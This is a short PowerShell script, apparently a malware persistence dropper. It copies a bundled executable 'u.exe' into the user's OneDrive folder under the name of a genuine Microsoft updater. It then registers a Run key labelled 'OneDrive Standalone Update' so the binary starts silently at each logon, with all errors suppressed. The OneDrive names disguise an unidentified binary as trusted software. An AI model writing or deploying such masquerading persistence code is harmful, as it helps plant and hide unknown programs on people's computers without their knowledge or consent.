# keeps the updater alive across reboots
$ErrorActionPreference = 'SilentlyContinue'
if (-not [Environment]::Is64BitOperatingSystem) {
    exit
}
$payload = "$env:LOCALAPPDATA\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe"
Copy-Item -Path "$PSScriptRoot\u.exe" -Destination $payload -Force
$run = [Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Software\Microsoft\Windows\CurrentVersion\Run', $true)
$run.SetValue('OneDrive Standalone Update', "`"$payload`" /background")
$run.Close()
